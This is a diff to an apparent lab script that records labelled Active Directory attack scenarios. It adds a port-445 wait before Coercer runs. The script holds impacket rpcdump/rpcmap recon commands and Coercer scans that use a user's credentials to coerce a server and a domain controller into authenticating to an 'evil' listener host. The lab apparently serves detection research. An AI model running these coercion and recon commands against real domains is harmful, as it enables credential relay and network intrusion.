@@ -24,15 +24,27 @@ scenario_recon_rpcdump() { simple recon_rpcdump "impacket's rpcdump lists every 
 scenario_recon_rpcdump_pipe() { simple recon_rpcdump_pipe "The same over the pipe epmapper." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcdump.py" -port 445 "$AS_USER@$DC"; }
 scenario_recon_rpcmap() { simple recon_rpcmap "impacket's rpcmap asks port 135 for the interfaces it has (management interface, opnum 0)." "$IMPACKET_CALL" recon ON_DC recon:epm -- on_evil "$IMPACKET/rpcmap.py" "ncacn_ip_tcp:$DC[135]"; }
 
+# Coercer binds port 445 without SO_REUSEADDR: connections of an earlier scenario must be forgotten, which takes a minute.
+evil_445_is_free() {
+  local _
+  for _ in $(seq 70); do
+    [ -n "$(ip netns exec ${NS}evil ss -tanH sport = :445)" ] || return 0
+    sleep 1
+  done
+}
+
 scenario_recon_coercer_scan() {
   callback_with impacket
+  evil_445_is_free
   record recon_coercer_scan
   in_host evil timeout 200 "$COERCER/coercer" scan -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN -t $SRV --auth-type smb \
     --filter-transport-name msrpc --filter-method-name EfsRpcEncryptFileSrv --ip-address $EVIL > "$RUN/coercer.log" 2>&1 || true
   truth "${COERCED_HERE[@]}" family=recon expect=recon:pipes expect=coercion:efsr tools="$COERCER_CALL" \
     notes="Coercer's scan mode: which pipes and interfaces are there, then one call a method with itself as the listener."
 }
+
 scenario_recon_coercer_scan_dc() {
+  evil_445_is_free
   record recon_coercer_scan_dc
   in_host evil timeout 200 "$COERCER/coercer" scan -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN -t $DC --auth-type smb \
     --filter-transport-name msrpc --ip-address $EVIL > "$RUN/coercer.log" 2>&1 || true
